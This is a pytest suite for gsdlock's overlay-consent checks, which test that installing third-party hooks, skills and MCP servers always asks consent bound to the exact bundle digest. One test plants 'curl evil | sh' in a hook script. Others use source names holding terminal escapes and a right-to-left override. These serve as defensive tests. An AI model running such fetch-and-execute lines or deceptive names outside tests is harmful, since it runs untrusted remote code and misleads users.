"""Consent: shown whole, asked always, bound to every byte, at one scope, never given by a project."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from gsdlock.cli.overlay_consent import confirmed

from .conftest import EXAMPLES, digest_of, feature_data, install, trust, write_feature

CLAUDE = '[targets.claude]\nscope = "global"\n'
HERON = str(EXAMPLES / "heron")


def record(machine: Any) -> bytes:
    path: Path = machine.state / "overlays.json"
    return path.read_bytes() if path.exists() else b""


def test_without_a_terminal_it_is_refused_and_everything_is_told(machine: Any, tides: Path) -> None:
    ran = machine.run("overlay", "add", str(tides))
    assert ran.status == 4 and "E-OVERLAY-UNATTENDED" in ran.err
    assert "hook Stop hooks/ebb.sh: on Stop: run hooks/ebb.sh" in ran.err
    assert "--consent sha256:" in ran.err
    assert not record(machine)
    assert not list((machine.home / ".local").rglob("blobs/sha256/*"))


def test_what_executes_is_shown_to_the_last_line_however_much_it_is(machine: Any, tmp_path: Path) -> None:
    """Nobody hides the one that matters behind many that do not: the screen is cut for no reason."""
    (tmp_path / "many").mkdir()
    hooks = [{"event": f"Event{n}", "script": f"hooks/h{n}.sh"} for n in range(150)]
    many = write_feature(tmp_path / "many", id_="many", hooks=hooks)
    for more in ((), ("--consent", "sha256:" + 64 * "0")):
        ran = machine.run("overlay", "add", str(many), *more)
        assert ran.status == 4 and "--verbose" not in ran.err
        assert all(f"on Event{n}: run hooks/h{n}.sh" in ran.err for n in range(150))


def test_a_yes_for_another_bundle_is_none(machine: Any, tides: Path) -> None:
    digest = digest_of(machine, str(tides))
    (tides / "hooks/ebb.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    ran = machine.run("overlay", "add", str(tides), "--consent", digest)
    assert ran.status == 4 and "E-OVERLAY-CONSENT-DIGEST" in ran.err
    assert not record(machine)


def test_a_host_that_executes_nothing_needs_consent_too(machine: Any, tmp_path: Path) -> None:
    (tmp_path / "quiet").mkdir()
    quiet = write_feature(tmp_path / "quiet", id_="quiet", hooks=[])
    ran = machine.run("overlay", "add", str(quiet))
    assert ran.status == 4 and "E-OVERLAY-UNATTENDED" in ran.err and "nothing by itself" in ran.err


def test_a_feature_goes_to_every_host_of_the_manifest_in_its_words(machine: Any, tides: Path) -> None:
    machine.manifest(CLAUDE + '[targets.codex]\nscope = "global"\n[targets.opencode]\nscope = "global"\n')
    install(machine, f"{tides}", "--project")
    machine.ok("resolve")
    machine.ok("apply", "--allow", "critical")
    claude = (machine.home / ".claude/agents/tides-pilot.md").read_text()
    codex = (machine.home / ".codex/agents/tides-pilot.toml").read_text()
    assert claude.startswith("---") and codex.startswith("name")
    for place in (".claude/skills/tides", ".config/opencode/skills/tides"):
        assert (machine.home / place / "SKILL.md").is_file()
    assert "ebb.sh" in (machine.home / ".claude/settings.json").read_text()


def test_what_executes_of_an_overlay_is_critical_and_high_does_not_answer_it(
    machine: Any, tides: Path
) -> None:
    machine.manifest(CLAUDE)
    install(machine, f"{tides}", "--project")
    machine.ok("resolve")
    ran = machine.run("apply", "--allow", "high")
    assert ran.status == 4 and "E-ASK-UNRESOLVED" in ran.err
    items = machine.ok("apply", "--dry-run", "--json").data["items"]
    critical = {i["key"].split("#")[0] for i in items if i["risk"] == "critical"}
    assert critical == {"config:settings.json", "config:hooks/tides/ebb.sh"}
    machine.ok("apply", "--allow", "critical")


def test_a_clone_that_declares_an_overlay_has_no_consent(machine: Any, tides: Path) -> None:
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    before = machine.tree()
    for words in (["resolve"], ["apply"], ["apply", "--allow", "critical"], ["apply", "--unsafe-auto-allow"]):
        ran = machine.run(*words)
        assert ran.status == 4 and "E-OVERLAY-CONSENT" in ran.err, ran.err
    assert machine.tree() == before and not (machine.project / "gsdlock.lock").exists()


def test_a_lock_that_pins_an_overlay_is_no_consent(machine: Any, tides: Path) -> None:
    """Somebody else resolved and consented; this user did neither."""
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    trust(machine, "tides")
    machine.ok("resolve")
    machine.ok("overlay", "trust", "tides", "--revoke")
    before = machine.tree()
    ran = machine.run("apply", "--locked", "--allow", "critical")
    assert ran.status == 4 and "E-OVERLAY-CONSENT" in ran.err
    assert machine.tree() == before


def test_consent_for_one_project_is_none_for_another(machine: Any, tides: Path, tmp_path: Path) -> None:
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    trust(machine, "tides")
    machine.ok("resolve")
    other = tmp_path / "other"
    other.mkdir()
    (other / "gsdlock.toml").write_text((machine.project / "gsdlock.toml").read_text())
    ran = machine.run("resolve", cwd=other)
    assert ran.status == 4 and "E-OVERLAY-CONSENT" in ran.err


def test_consent_to_an_installed_one_is_none_for_a_project_that_declares_it(
    machine: Any, tides: Path
) -> None:
    install(machine, str(tides))
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    assert "E-OVERLAY-CONSENT" in machine.run("resolve").err


CHANGES: dict[str, Callable[[Path], object]] = {
    "a byte of a script": lambda f: (f / "hooks/ebb.sh").write_text("#!/bin/sh\necho Ebb\n"),
    "a byte of a text": lambda f: (f / "skills/tides/SKILL.md").write_text(
        "---\nname: tides\ndescription: Tells the tides.\n---\nLook!\n"
    ),
    "the right to be executed": lambda f: (f / "hooks/ebb.sh").chmod(0o755),
    "a file more": lambda f: (f / "notes.txt").write_text("x"),
    "a file less": lambda f: (f / "agents/extra.md").unlink(),
    "the order of keys": lambda f: (f / "capability.json").write_text(
        json.dumps(dict(reversed(list(feature_data().items()))))
    ),
}


@pytest.mark.parametrize("change", CHANGES)
def test_any_change_asks_again(machine: Any, tides: Path, change: str) -> None:
    (tides / "agents/extra.md").write_text("x")
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    trust(machine, "tides")
    machine.ok("resolve")
    CHANGES[change](tides)
    ran = machine.run("resolve")
    assert ran.status == 4 and "E-OVERLAY-CONSENT" in ran.err


COSMETIC: dict[str, Callable[[Path], object]] = {
    "line ends": lambda f: (f / "skills/tides/SKILL.md").write_bytes(
        (f / "skills/tides/SKILL.md").read_bytes().replace(b"\n", b"\r\n")
    ),
    "times": lambda f: (f / "hooks/ebb.sh").touch(),
    "a repository": lambda f: subprocess.run(["git", "init", "-q", f], check=True),
    "what a desktop leaves": lambda f: (f / ".DS_Store").write_text("x"),
}


@pytest.mark.parametrize("change", COSMETIC)
def test_criterion_43_what_is_not_installed_asks_nothing(machine: Any, tides: Path, change: str) -> None:
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    trust(machine, "tides")
    machine.ok("resolve")
    COSMETIC[change](tides)
    machine.ok("resolve")


def test_criterion_43_changed_args_ask_again_and_are_marked(machine: Any, tmp_path: Path) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    server = {"command": "tided", "args": ["--port", "1"]}
    write_feature(folder, id_="tides", mcpServers={"tide-server": server})
    install(machine, str(folder))
    server["args"] = ["--port", "1", "--exec", "x y"]
    write_feature(folder, id_="tides", mcpServers={"tide-server": server})
    ran = machine.run("overlay", "update", "tides")
    assert ran.status == 4 and "E-OVERLAY-UNATTENDED" in ran.err
    assert "+ MCP server tide-server: run tided --port 1 --exec 'x y'" in ran.err
    assert "- MCP server tide-server: run tided --port 1" in ran.err
    assert "changed capability.json" in ran.err


def test_update_and_back_without_the_source(machine: Any, tides: Path) -> None:
    first = install(machine, str(tides))
    (tides / "hooks/ebb.sh").write_text("#!/bin/sh\necho flow\n")
    second = digest_of(machine, str(tides))
    assert second != first
    machine.ok("overlay", "update", "tides", "--consent", second)
    (row,) = machine.ok("overlay", "list", "--json").data["overlays"]
    assert (row["digest"], row["former"]) == (second, [first])
    for path in sorted(tides.rglob("*"), reverse=True):
        if path.is_dir():
            path.rmdir()
        else:
            path.unlink()
    machine.ok("gc")
    machine.ok("overlay", "update", "tides", "--to", first)
    (row,) = machine.ok("overlay", "list", "--json").data["overlays"]
    assert (row["digest"], row["consented"]) == (first, True)
    assert "E-OVERLAY-FORMER" in machine.run("overlay", "update", "tides", "--to", "sha256:1").err
    machine.ok("overlay", "verify")


def test_offline_from_the_store_after_the_source_is_gone(machine: Any, tides: Path) -> None:
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    trust(machine, "tides")
    machine.ok("resolve")
    tides.rename(tides.with_name("gone"))
    machine.ok("apply", "--locked", "--offline", "--allow", "critical")
    assert (machine.home / ".claude/skills/tides/SKILL.md").is_file()
    why = machine.ok("why", str(machine.home / ".claude/skills/tides/SKILL.md")).out
    assert "overlay:tides" in why


def test_an_installed_feature_is_off_in_a_project_that_does_not_name_it(machine: Any, tides: Path) -> None:
    install(machine, str(tides))
    machine.manifest(CLAUDE)
    machine.ok("resolve")
    assert "tides" not in (machine.project / "gsdlock.lock").read_text()
    machine.manifest(CLAUDE + 'enable = ["tides"]\n')
    machine.ok("resolve")
    assert 'origin = "overlay:tides"' in (machine.project / "gsdlock.lock").read_text()
    machine.ok("overlay", "remove", "tides")
    ran = machine.run("apply", "--locked", "--allow", "critical")
    assert ran.status == 5 and "E-OVERLAY-MISSING" in ran.err


def test_a_damaged_record_consents_to_nothing(machine: Any, tides: Path) -> None:
    install(machine, str(tides))
    path = machine.state / "overlays.json"
    path.write_bytes(path.read_bytes().replace(b"terminal", b"Terminal").replace(b"flag:", b"Flag:"))
    ran = machine.run("overlay", "list")
    assert ran.status == 5 and "E-OVERLAY-STATE" in ran.err


def test_a_declaration_leaves_the_rest_of_the_manifest_alone(machine: Any, tides: Path) -> None:
    text = f"# mine\n\n{CLAUDE}  # so\n"
    machine.manifest(text)
    install(machine, str(tides), "--project")
    after = (machine.project / "gsdlock.toml").read_text()
    assert after.startswith(text) and "[overlays.tides]" in after
    again = machine.run("overlay", "add", HERON, "--project", "--consent", digest_of(machine, HERON))
    assert again.status == 0, again.err


def test_git_at_any_ref_with_the_commit_locked(machine: Any, tides: Path) -> None:
    def git(*words: str) -> str:
        done = subprocess.run(
            ["git", "-C", str(tides), "-c", "user.name=x", "-c", "user.email=x@example.invalid", *words],
            check=True,
            capture_output=True,
            text=True,
        )
        return done.stdout.strip()

    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-qm", "one")
    git("tag", "v1")
    first = git("rev-parse", "HEAD")
    (tides / "hooks/ebb.sh").write_text("#!/bin/sh\necho flow\n")
    git("commit", "-qam", "two")
    machine.manifest(f'{CLAUDE}[overlays.tides]\ngit = "{tides}"\nref = "v1"\n')
    trust(machine, "tides")
    machine.ok("resolve")
    lock = (machine.project / "gsdlock.lock").read_text()
    assert f'revision = "{first}"' in lock
    for ref in (first, first[:10], "main", "v1"):
        machine.ok("overlay", "show", f"git+{tides}#{ref}")


def test_the_manifest_rebuilds_its_lock_byte_for_byte(machine: Any, tides: Path) -> None:
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    trust(machine, "tides")
    machine.ok("resolve")
    first = (machine.project / "gsdlock.lock").read_bytes()
    machine.ok("resolve", "--check")
    (machine.project / "gsdlock.lock").unlink()
    machine.ok("resolve")
    assert (machine.project / "gsdlock.lock").read_bytes() == first


def test_the_lists_say_where_a_third_party_host_or_feature_comes_from(machine: Any, tides: Path) -> None:
    install(machine, HERON)
    install(machine, str(tides))
    assert "Heron (overlay:heron)" in machine.ok("runtimes").out
    assert "Tides (overlay:tides)" in machine.ok("features").out
    hosts = machine.ok("runtimes", "--json").data["runtimes"]
    assert {h["origin"] for h in hosts if h["id"] in ("heron", "claude")} == {"overlay:heron", "builtin"}


def test_criterion_44_first_party_wins_an_id(machine: Any, tmp_path: Path) -> None:
    (tmp_path / "squatter").mkdir()
    folder = write_feature(tmp_path / "squatter", id="graphify", id_="squatter")
    ran = machine.run("overlay", "add", str(folder), "--consent", "sha256:" + 64 * "0")
    assert ran.status == 4 and "E-OVERLAY-CONFLICT" in ran.err
    assert "overlay:graphify" in ran.err and "builtin" in ran.err
    assert not record(machine)


def test_an_archive_is_the_same_bundle_as_its_folder(machine: Any, tides: Path) -> None:
    made = {
        kind: shutil.make_archive(str(tides.parent / f"packed-{kind}"), kind, tides.parent, "tides")
        for kind in ("gztar", "zip", "tar")
    }
    assert {digest_of(machine, path) for path in made.values()} == {digest_of(machine, str(tides))}
    digest = install(machine, made["zip"])
    Path(made["zip"]).unlink()
    machine.manifest(CLAUDE + 'enable = ["tides"]\n')
    machine.ok("resolve", "--offline")
    assert digest in (machine.project / "gsdlock.lock").read_text()


def test_diff_names_an_overlay_that_moved(machine: Any, tides: Path) -> None:
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    trust(machine, "tides")
    machine.ok("resolve")
    machine.ok("apply", "--allow", "critical")
    assert "overlay" not in machine.ok("diff").out
    (tides / "hooks/ebb.sh").write_text("#!/bin/sh\necho flow\n")
    trust(machine, "tides")
    assert "overlay:tides: path 1.0.0, other content" in machine.ok("resolve").out
    assert "overlay:tides: path 1.0.0, other content" in machine.ok("diff").out


@pytest.mark.parametrize(
    ("answers", "consents"),
    [(["y"], True), (["maybe", "l", "YES"], True), (["n"], False), ([""], False), (["l", "no"], False)],
)
def test_only_a_yes_is_one(answers: list[str], consents: bool) -> None:
    told: list[str] = []
    lines = iter(f"{a}\n" for a in answers)
    assert confirmed(told.append, lambda: next(lines), ["a.md"]) is consents
    assert ("  a.md" in told) is ("l" in answers)


@pytest.mark.parametrize("name", ["two\nlines", "turned\u202eround", "esc\x1b[2J"])
def test_a_source_that_no_manifest_and_no_lock_could_name_is_refused(
    machine: Any, tides: Path, name: str
) -> None:
    odd = tides.rename(tides.parent / name)
    ran = machine.run("overlay", "add", str(odd), "--project")
    assert ran.status == 3 and "E-OVERLAY-SOURCE" in ran.err and len(ran.err.splitlines()) == 2
    assert not record(machine)
